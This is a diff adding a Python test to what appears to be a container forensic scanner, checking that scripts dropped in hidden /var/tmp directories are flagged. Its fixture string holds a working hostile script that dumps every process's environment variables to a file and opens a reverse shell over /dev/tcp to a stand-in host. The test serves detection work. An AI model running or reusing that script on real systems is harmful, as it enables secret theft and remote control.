@@ -132,6 +132,28 @@ def test_content_tool_dot_directories_and_hiding_places():
         eq(by_path.get('/' + p), 'KCSI-DROP-001', p)
 
 
+def test_content_dropped_script_says_what_it_does():
+    """A script dropped in a hiding place is judged by what its text does,
+    line by line, with the shell-history patterns: a reverse shell and a read
+    of other processes' environments add their techniques to KCSI-DROP-001;
+    a fetch over /dev/tcp three lines below a bash shebang is no shell."""
+    host = '127.%d.%d.%d' % (random.randrange(256), random.randrange(256), random.randrange(1, 255))
+    evil = ('#!/bin/sh\nfor e in /proc/[0-9]*/environ; do tr "\\0" "\\n" < "$e"; done > /tmp/.e\n'
+            'exec 3<>/dev/tcp/%s/443 && sh <&3 >&3 2>&3\n' % host).encode()
+    fetch = ('#!/bin/bash\nset -e\n\nexec 3<>/dev/tcp/%s/80\nprintf "GET / HTTP/1.0\\r\\n\\r\\n" >&3\ncat <&3\n'
+             % host).encode()
+    a, b = '/var/tmp/.%s/u' % _rand(), '/var/tmp/.%s/f' % _rand()
+    ms = hr.members('counter')
+    hr.put(ms, 'rootfs-diff.tar', _tar({a.lstrip('/'): evil, b.lstrip('/'): fetch}))
+    r = _analyze(hr.write_tar(ms, hr.tmp('content-script-does.tar')))
+    drop = {e.get('path'): f for f in _find(r, 'KCSI-DROP-001') for e in f['evidence']}
+    assert a in drop and b in drop, sorted(drop)
+    for t in ('T1059.004', 'T1003.007', 'T1552.001'):
+        assert t in drop[a]['mitre'], drop[a]
+    assert 'shell over /dev/tcp' in drop[a]['explanation'], drop[a]['explanation']
+    assert 'T1059.004' not in drop[b]['mitre'] and 'What its text does' not in drop[b]['explanation'], drop[b]
+
+
 def _rand(n=6):
     return ''.join(random.choice(string.ascii_lowercase) for _ in range(n))
 
